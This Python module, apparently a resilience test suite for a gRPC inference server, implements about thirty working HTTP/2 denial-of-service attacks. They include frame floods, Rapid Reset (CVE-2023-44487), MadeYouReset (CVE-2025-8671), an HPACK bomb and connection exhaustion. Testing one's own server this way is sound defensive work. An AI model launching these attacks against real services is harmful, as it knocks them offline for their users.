"""What hostile peers send to a gRPC port. Each attack is a function of the server's address that
yields once, when all is sent and its connections are still open."""

import itertools
import random
import resource
import socket

from frames import *

CLASSIFY = "/quintet.v1.InferenceService/Classify"
CLASSIFY_STREAM = "/quintet.v1.InferenceService/ClassifyStream"
GENERATE = "/quintet.v1.InferenceService/GenerateDigits"
# Bytes that a flood sends.
FLOOD = 16 << 20
# The most images of one GenerateDigits, as they are, without a picture around them: 784 kB.
MANY_IMAGES = b"\x08\x80\x08\x28\x02"

ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__.replace("_", " ")] = function
    return function


def flood(address, block, opening=b"", connections=1, size=FLOOD):
    """Sends a block again and again on some connections, and reads nothing."""
    peers = [Peer(address) for _ in range(connections)]
    block *= max(1, (1 << 16) // len(block))
    for peer in peers:
        peer.send(opening, *itertools.repeat(block, size // connections // len(block)))
    yield
    for peer in peers:
        peer.close()


@attack
def settings_flood(address):
    return flood(address, settings())


@attack
def settings_that_change_the_window(address):
    opened = b"".join(request(stream, CLASSIFY_STREAM) for stream in streams(1000))
    return flood(address, settings(window=0) + settings(window=2**31 - 1), opened)


@attack
def ping_flood(address):
    return flood(address, frame(PING, 0, 0, b"8 octets"))


@attack
def answers_to_no_ping(address):
    return flood(address, frame(PING, ACK, 0, b"8 octets"))


@attack
def empty_data_flood(address):
    return flood(address, frame(DATA, 0, 1), request(1, CLASSIFY))


@attack
def empty_data_flood_on_a_stream_of_messages(address):
    return flood(address, frame(DATA, 0, 1), request(1, CLASSIFY_STREAM))


@attack
def padding_without_data(address):
    # Padding counts as data for flow control: the window ends it.
    return flood(address, frame(DATA, PADDED, 1, b"\xff" + bytes(255)), request(1, CLASSIFY))


@attack
def window_update_flood(address):
    return flood(address, window_update(0, 1) + window_update(1, 1), request(1, CLASSIFY))


@attack
def priority_flood(address):
    return flood(address, frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 9)))


@attack
def unknown_frames(address):
    return flood(address, frame(0xBE, 0xFF, 0, bytes(100)))


@attack
def continuation_flood(address):
    more = frame(CONTINUATION, 0, 1, field("x-more", "x" * 100))
    return flood(address, more, frame(HEADERS, 0, 1, request_block(CLASSIFY)))


@attack
def empty_continuation_flood(address):
    return flood(address, frame(CONTINUATION, 0, 1), frame(HEADERS, 0, 1, request_block(CLASSIFY)))


def on_each_stream(address, block, count=100_000):
    """Sends what `block` makes of a stream's number, for many streams of one connection."""
    peer = Peer(address)
    blocks = (block(stream) for stream in streams(count))
    while part := b"".join(itertools.islice(blocks, 1000)):
        if not peer.send(part):
            break
    yield
    peer.close()


@attack
def rapid_reset(address):
    """CVE-2023-44487: the peer resets its own requests."""
    return on_each_stream(
        address, lambda it: request(it, CLASSIFY, b"\x12\x03mlp") + frame(RST_STREAM, 0, it, CANCEL)
    )


@attack
def made_you_reset(address):
    """CVE-2025-8671: the peer makes the server reset them."""
    return on_each_stream(address, lambda it: request(it, CLASSIFY) + window_update(it, 0))


@attack
def made_you_reset_by_overflow(address):
    return on_each_stream(address, lambda it: request(it, CLASSIFY) + window_update(it, 2**31 - 1))


@attack
def too_many_streams(address):
    return on_each_stream(address, lambda it: request(it, CLASSIFY))


@attack
def refused_at_once(address):
    return on_each_stream(address, lambda it: request(it, "/no/such", b""))


@attack
def hpack_bomb(address):
    """A large field once, in the table; then a byte for each time it is meant."""
    large = b"\x40\x06x-bomb\x7f" + bytes([0xA1, 0x1E]) + b"x" * 4000  # of 4000 bytes
    peer = Peer(address)
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(CLASSIFY) + large))
    bomb = request_block(CLASSIFY) + b"\xbe" * 16_000
    for stream in streams(2000):
        if not peer.send(frame(HEADERS, END_HEADERS | END_STREAM, stream + 2, bomb)):
            break
    yield
    peer.close()


@attack
def messages_that_are_promised(address):
    """Sixteen megabytes each, of which all but the last byte come."""
    peers = [Peer(address) for _ in range(40)]
    head = b"\0" + struct.pack(">I", 16 << 20)
    part = bytes(16_384)
    for peer in peers:
        peer.send(*(request(it, CLASSIFY) + frame(DATA, 0, it, head) for it in streams(64)))
        peer.send(*(frame(DATA, 0, it, part) for _ in range(64) for it in streams(64)), patience=0.2)
    yield
    for peer in peers:
        peer.close()


def unread(address, opening, message, path):
    """Asks for all that it may and reads nothing."""
    peers = [Peer(address, opening) for _ in range(4)]
    for peer in peers:
        peer.send(*(request(it, path, message) for it in streams(1000)))
    yield
    for peer in peers:
        peer.close()


@attack
def window_of_nothing(address):
    return unread(address, PREFACE + settings(window=0), b"", "/inference.GRPCInferenceService/ServerMetadata")


@attack
def large_answers_without_a_window(address):
    return unread(address, PREFACE + settings(window=0), MANY_IMAGES, GENERATE)


@attack
def large_answers_that_nobody_reads(address):
    opening = PREFACE + settings(window=2**31 - 1) + window_update(0, 2**31 - 2**16)
    return unread(address, opening, MANY_IMAGES, GENERATE)


@attack
def endless_streams_without_a_window(address):
    path = "/quintet.v1.InferenceService/GenerateDigitsStream"
    return unread(address, PREFACE + settings(window=0), b"\x08\xa0\x8d\x06", path)


@attack
def ten_thousand_idle_connections(address):
    peers = [Peer(address) for _ in range(idle_connections())]
    yield
    for peer in peers:
        peer.close()


def idle_connections():
    """Ten thousand, or what the limit on descriptors leaves for both sides."""
    return min(10_000, resource.getrlimit(resource.RLIMIT_NOFILE)[0] * 5 // 8)


@attack
def storm_of_connections(address):
    for _ in range(10_000):
        Peer(address).close()
    yield


@attack
def resets_by_tcp(address):
    """Connections that end by RST in the middle of a request."""
    for _ in range(3000):
        peer = Peer(address)
        peer.send(request(1, CLASSIFY)[:40])
        peer.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        peer.close()
    yield


@attack
def noise(address):
    seeded = random.Random(1)
    peers = []
    for _ in range(2000):
        peers.append(Peer(address, seeded.choice([b"", PREFACE])))
        peers[-1].send(seeded.randbytes(200))
    yield
    for peer in peers:
        peer.close()
